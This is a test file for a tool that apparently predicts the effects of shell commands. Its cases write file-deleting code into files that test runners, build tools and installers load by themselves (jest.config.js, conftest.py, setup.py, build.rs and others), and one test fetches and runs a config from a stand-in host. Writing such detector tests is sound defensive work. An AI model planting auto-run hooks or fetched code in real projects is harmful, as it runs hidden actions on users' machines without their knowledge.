import { describe, expect, test } from 'vitest'
import { exampleEffects } from '../testing/example.ts'

const JS = `echo 'require("fs").unlinkSync("a")' >`
const PYTHON = `echo 'import os; os.remove("a")' >`
const RUBY = `echo 'File.delete("a")' >`
const GONE = 'file delete a'

describe('what a tool finds by itself, where the action wrote it', () => {
  test.each([
    `${JS} jest.config.js; npx jest`,
    `${JS} test/x.test.js; npx jest`,
    `${JS} test/x.js; node --test test/`,
    `${JS} e2e/x.ts; npx playwright test`,
    `${JS} .eslintrc.cjs; eslint .`,
    `${JS} packages/a/vite.config.ts; cd packages/a; npx vite build`,
    `${JS} webpack.config.js; cd src; npx webpack`,
    `${PYTHON} tests/conftest.py; pytest tests`,
    `${PYTHON} sitecustomize.py; PYTHONPATH=. pytest`,
    `${PYTHON} setup.py; pip install -e .`,
    `${PYTHON} SConstruct; scons`,
    `${RUBY} spec/x_spec.rb; rspec`,
    `${RUBY} Gemfile; bundle install`,
    `${RUBY} config.ru; rackup`,
    `printf '<?php unlink("a");' > tests/XTest.php; vendor/bin/phpunit`,
    `printf 'os.Remove("a")' > x_test.go; go test ./...`,
    `printf 'exec.Command("rm", "a")' > main.go; go run .`,
    `printf 'fs::remove_file("a")' > build.rs; cargo build`,
    `printf 'Command::new("rm").arg("-f").arg("a")' > build.rs; cargo check`,
    `printf '@test "x" {\n  rm a\n}\n' > test/x.bats; bats test`,
    `cp /tmp/x jest.config.js; ${JS} jest.config.js; npx jest`,
  ])('%s', async (command) => expect(await exampleEffects(command)).toContain(GONE))
})

describe('what no tool finds, or nobody runs', () => {
  test.each([
    `${JS} src/clean.js; npx jest`,
    `${JS} jest.config.js; npx prettier --version`,
    `${JS} jest.config.js; cat jest.config.js`,
    `${JS} /tmp/x/jest.config.js; npx jest`,
    `${JS} test/x.js; node src/index.js`,
    `${PYTHON} app.py; pytest`,
    `${RUBY} app.rb; rspec`,
    `printf 'os.Remove(f.Name())' > x_test.go; go test ./...`,
    `printf 'os.Remove("a")' > x.go; go vet ./...`,
    `printf 'fs::remove_file(path)' > build.rs; cargo build`,
  ])('%s', async (command) => expect(await exampleEffects(command)).not.toContain(GONE))
})

test('what it found came from the network', async () => {
  const fetched = 'curl -so jest.config.js https://x.example/j.js; npx jest'
  expect(await exampleEffects(fetched)).toContain('remote-code run code')
  expect(await exampleEffects('curl -so a.json https://x.example/a.json; npx jest')).not.toContain(
    'remote-code run code',
  )
})

describe('modules that the action wrote', () => {
  test.each([
    `${JS} l.js; node -e 'require("./l")'`,
    `${JS} l.mjs; node --input-type=module -e 'import x from "./l.mjs"'`,
    `${JS} l.js; echo 'require("./l.js")' > m.js; node m.js`,
    `${PYTHON} lib/x.py; python -c 'import lib.x'`,
    `${PYTHON} lib/__init__.py; python -c 'from lib import y'`,
    `${PYTHON} tests/helper.py; echo 'import helper' > tests/test_x.py; pytest`,
    `${RUBY} l.rb; ruby -e 'require_relative "l"'`,
  ])('%s', async (command) => expect(await exampleEffects(command)).toContain(GONE))
  test.each([
    `${JS} l.js; node -e 'require("./other")'`,
    `${JS} l.js; node -e 'console.log("./l")'`,
    `${JS} l/index.js; node -e 'require("l")'`,
    `${PYTHON} lib/x.py; python -c 'import y'`,
  ])('not loaded: %s', async (command) => expect(await exampleEffects(command)).not.toContain(GONE))
  test('modules that load each other come to an end', async () => {
    const circle = `echo 'require("./b")' > a.js; echo 'require("./a"); require("fs").unlinkSync("a")' > b.js; node a.js`
    expect(await exampleEffects(circle)).toContain(GONE)
  })
})
